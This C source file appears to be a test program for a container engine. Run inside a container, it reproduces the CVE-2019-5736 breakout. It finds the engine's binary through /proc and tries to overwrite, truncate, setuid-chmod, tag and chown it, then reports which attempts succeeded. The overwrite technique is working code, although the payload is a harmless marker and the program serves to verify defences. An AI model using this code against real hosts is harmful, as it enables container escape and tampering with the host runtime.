/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2019-5736 from inside: waits for a process that was executed from /proc/self/exe, and so is the engine's own
 * program; takes hold of that, ends the process, and then tries to change the program in every way there is.
 * Prints "held", then "changed HOW" for each that worked, then "done".
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

/* An executable that is no file of this root, or one that was made in memory. */
static int attack_is_engine(const char *pid)
{
	char path[64], link[4096];

	(void)snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	ssize_t n = readlink(path, link, sizeof(link) - 1);
	if (n <= 0)
		return 0;
	link[n] = '\0';
	return strncmp(link, "/bin/", 5) !=
	       0; /* all of the image's are there; a detached mount has no name */
}

static int attack_hold(const char *pid)
{
	char path[64];

	if (!attack_is_engine(pid) || kill((pid_t)(int)strtol(pid, NULL, 10), SIGSTOP) < 0)
		return -1;
	(void)snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	(void)kill((pid_t)(int)strtol(pid, NULL, 10),
		   SIGKILL); /* ours to end; a running program would only be busy */
	return fd;
}

static int attack_find(void)
{
	for (;;) {
		DIR *dir = opendir("/proc");
		if (!dir)
			return -1;
		for (struct dirent *e = readdir(dir); e; e = readdir(dir)) {
			int fd = isdigit((unsigned char)e->d_name[0]) &&
						 (int)strtol(e->d_name, NULL, 10) != getpid()
					 ? attack_hold(e->d_name)
					 : -1;
			if (fd >= 0) {
				(void)closedir(dir);
				return fd;
			}
		}
		(void)closedir(dir);
	}
}

static void attack_write(const char *path, int flags, const char *how)
{
	int fd;

	/* Busy until the killed process is gone, and the engine may run it elsewhere: not for ever. */
	for (int tries = 0;
	     (fd = open(path, flags | O_CLOEXEC)) < 0 && errno == ETXTBSY && tries < 2000; tries++)
		(void)usleep(1000);
	if (fd >= 0 && ((flags & O_TRUNC) || write(fd, "#!/pwned\n", 9) == 9))
		(void)printf("changed %s\n", how);
	if (fd >= 0)
		(void)close(fd);
}

int main(void)
{
	char path[64];

	(void)printf("ready\n");
	(void)fflush(stdout);
	int fd = attack_find();
	if (fd < 0)
		return 1;
	(void)printf("held\n");
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	attack_write(path, O_WRONLY, "write");
	attack_write(path, O_RDWR, "read-write");
	attack_write(path, O_WRONLY | O_APPEND, "append");
	attack_write(path, O_WRONLY | O_TRUNC, "open-truncate");
	if (truncate(path, 0) == 0 || ftruncate(fd, 0) == 0)
		(void)printf("changed truncate\n");
	/* A memory file is a copy of this one process: its mode and marks are nobody else's. */
	char link[4096] = "";
	(void)!readlink(path, link, sizeof(link) - 1);
	if (strncmp(link, "/memfd:", 7) != 0) {
		if (fchmod(fd, 04777) == 0 || chmod(path, 04777) == 0)
			(void)printf("changed mode\n");
		if (fsetxattr(fd, "user.pwned", "1", 1, 0) == 0)
			(void)printf("changed xattr\n");
		if (fchown(fd, 1000, 1000) == 0)
			(void)printf("changed owner\n");
	}
	(void)printf("%s\ndone\n", strncmp(link, "/memfd:", 7) ? "file" : "memfd");
	return 0;
}
